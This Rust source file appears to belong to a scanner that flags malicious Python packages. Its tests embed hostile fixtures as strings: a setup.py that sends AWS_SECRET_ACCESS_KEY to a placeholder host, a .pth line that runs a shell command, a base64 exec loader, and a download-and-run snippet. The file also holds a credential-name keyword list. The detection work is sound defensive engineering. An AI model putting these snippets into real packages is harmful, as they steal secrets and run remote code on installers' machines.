//! Single-version judgement (`turncoat scan` of a Python file): no history, so only signals
//! that are rare in benign releases. The release is judged by the diff rules against a
//! *baseline* made from its own facts minus those signals, so each signal is reported by the
//! rule (and code) the gate uses for it, and everything else counts as "already there":
//!
//! - a `.pth` line that executes code (`py-pth-exec`);
//! - the network, DNS, credential stores, persistence places or an environment variable named
//!   like a secret in install-time or interpreter-start code (`py-install-time-capability`);
//!   process creation, plain `exec`, other environment reads and copies of the whole
//!   environment (to pass to a compiler) at install time are common in benign `setup.py`
//!   files and are not reported;
//! - decoded or loaded code executed at import time or earlier (`py-encoded-exec`);
//! - pyarmor and other obfuscation markers (`py-obfuscation`);
//! - in a wheel, the network together with process creation or exec in one file at import
//!   time or earlier (`py-download-exec`). Not in an sdist: its helper scripts and tests
//!   (`scripts/install_pip.py`) are never imported by an install, yet read as import-time
//!   code.

use crate::facts::{Capability, DistFacts, Moment, Occurrence};
use crate::rules::env_exfiltration::secretish;
use crate::{DiffContext, diff};
use turncoat_finding::Finding;

/// The codes `scan` reports.
pub const SCAN_CODES: &[&str] = &[
    "py-pth-exec",
    "py-install-time-capability",
    "py-encoded-exec",
    "py-obfuscation",
    "py-download-exec",
];

fn strong(o: &Occurrence, wheel: bool, secret_env_early: bool, early_decoders: &[&str]) -> bool {
    let early = o.moment <= Moment::Start;
    match o.capability {
        Capability::Network => early || (wheel && o.moment <= Moment::Import),
        Capability::Dns | Capability::SensitiveRead | Capability::Persistence => early,
        // One secret read makes every early read part of the finding (the rule compares
        // capabilities, not variables).
        Capability::EnvRead => early && secret_env_early,
        Capability::EncodedExec => {
            o.moment <= Moment::Import
                || o.detail
                    .as_deref()
                    .is_some_and(|d| early_decoders.contains(&d))
        }
        Capability::Obfuscation => true,
        _ => false,
    }
}

/// A variable one of whose `_`-separated words starts like a credential (`PYPI_TOKEN`,
/// `AWS_SECRET_ACCESS_KEY`, `APIKEY`), not one that merely contains the letters
/// (`GSSAPI_MAIN_LIB`, a build switch of gssapi's `setup.py`).
fn named_secret(name: &str) -> bool {
    const WORDS: &[&str] = &[
        "TOKEN",
        "SECRET",
        "KEY",
        "PASS",
        "AWS",
        "CREDENTIAL",
        "AUTH",
        "SESSION",
        "API",
        "PRIVATE",
    ];
    name.to_ascii_uppercase()
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|w| WORDS.iter().any(|s| w.starts_with(s)))
}

/// Findings about one release judged alone.
pub fn scan(facts: &DistFacts, name: &str, version: &str) -> Vec<Finding> {
    // Named secrets only: `*` (a copy of the environment) and `?` (a computed name) are what
    // build scripts do to pass the environment on.
    let secret_env_early = facts.uses(Capability::EnvRead).any(|o| {
        o.moment <= Moment::Start
            && o.detail
                .as_deref()
                .is_some_and(|d| d != "*" && d != "?" && secretish(d) && named_secret(d))
    });
    let wheel = facts.kind == crate::facts::DistKind::Wheel;
    let early_decoders: Vec<&str> = facts
        .uses(Capability::EncodedExec)
        .filter(|o| o.moment <= Moment::Import)
        .filter_map(|o| o.detail.as_deref())
        .collect();
    let mut baseline = DistFacts::new(facts.kind);
    baseline.occurrences = facts
        .occurrences
        .iter()
        .filter(|o| !strong(o, wheel, secret_env_early, &early_decoders))
        .cloned()
        .collect();
    baseline.entry_points = facts.entry_points.clone();
    baseline.requires = facts.requires.clone();
    baseline.native = facts.native.clone();
    baseline.record_issues = facts.record_issues.clone();
    let ctx = DiffContext::new(name, "(judged alone)", version);
    diff(&baseline, facts, &ctx)
        .into_iter()
        .filter(|f| SCAN_CODES.contains(&f.code.as_str()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::DistKind;
    use crate::rules::testing::{facts, wheel};

    fn codes(f: &DistFacts) -> Vec<String> {
        let mut c: Vec<String> = scan(f, "demo", "1.0.1")
            .into_iter()
            .map(|f| f.code)
            .collect();
        c.sort();
        c
    }

    #[test]
    fn fires_on_the_takeover_shapes() {
        let pth = wheel(&[
            ("demo/__init__.py", "x = 1\n"),
            ("demo.pth", "import os; os.system('id')\n"),
        ]);
        assert_eq!(codes(&pth), ["py-pth-exec"]);
        let setup = facts(
            DistKind::Sdist,
            &[(
                "setup.py",
                "import os, urllib.request\nurllib.request.urlopen('https://x.invalid/?' + os.environ['AWS_SECRET_ACCESS_KEY'])\nfrom setuptools import setup\nsetup(name='demo')\n",
            )],
        );
        assert_eq!(codes(&setup), ["py-install-time-capability"]);
        let secret_only = facts(
            DistKind::Sdist,
            &[("setup.py", "import os\nt = os.environ.get('PYPI_TOKEN')\n")],
        );
        assert_eq!(codes(&secret_only), ["py-install-time-capability"]);
        let packed = wheel(&[(
            "demo/__init__.py",
            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
        )]);
        assert!(
            codes(&packed).contains(&"py-encoded-exec".to_string()),
            "{:?}",
            codes(&packed)
        );
        let armor = wheel(&[(
            "demo/__init__.py",
            "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')\n",
        )]);
        assert!(
            codes(&armor).contains(&"py-obfuscation".to_string()),
            "{:?}",
            codes(&armor)
        );
        let fetch_run = wheel(&[(
            "demo/__init__.py",
            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.invalid/m', '/tmp/m')\nsubprocess.Popen(['/tmp/m'])\n",
        )]);
        assert!(
            codes(&fetch_run).contains(&"py-download-exec".to_string()),
            "{:?}",
            codes(&fetch_run)
        );
    }

    #[test]
    fn quiet_on_ordinary_releases() {
        // A setup.py that compiles with subprocess and reads CFLAGS; a library that uses the
        // network when called; a .pth that only adds a path.
        let sdist = facts(
            DistKind::Sdist,
            &[
                (
                    "setup.py",
                    "import os, subprocess\nflags = os.environ.get('CFLAGS', '')\nsubprocess.check_call(['make'])\nfrom setuptools import setup\nsetup(name='demo')\n",
                ),
                (
                    "demo/__init__.py",
                    "import os, requests\ndef fetch(u):\n    return requests.get(u, headers={'t': os.environ['API_TOKEN']})\n",
                ),
            ],
        );
        assert!(codes(&sdist).is_empty(), "{:?}", codes(&sdist));
        // A build script that copies the environment for a compiler, and an sdist helper
        // script that downloads and runs pip (psutil's `scripts/internal/install_pip.py`).
        let build = facts(
            DistKind::Sdist,
            &[
                (
                    "setup.py",
                    "import os, subprocess
env = dict(os.environ)
subprocess.check_call(['cc'], env=env)
",
                ),
                (
                    "scripts/install_pip.py",
                    "import os, urllib.request
urllib.request.urlretrieve('https://bootstrap.pypa.io/get-pip.py', 'g.py')
os.system('python g.py')
",
                ),
            ],
        );
        assert!(codes(&build).is_empty(), "{:?}", codes(&build));
        let gssapi = facts(
            DistKind::Sdist,
            &[(
                "setup.py",
                "import os
lib = os.environ.get('GSSAPI_MAIN_LIB', None)
",
            )],
        );
        assert!(codes(&gssapi).is_empty(), "{:?}", codes(&gssapi));
        let wheel = wheel(&[("demo/__init__.py", "x = 1\n"), ("demo.pth", "./vendor\n")]);
        assert!(codes(&wheel).is_empty(), "{:?}", codes(&wheel));
    }
}
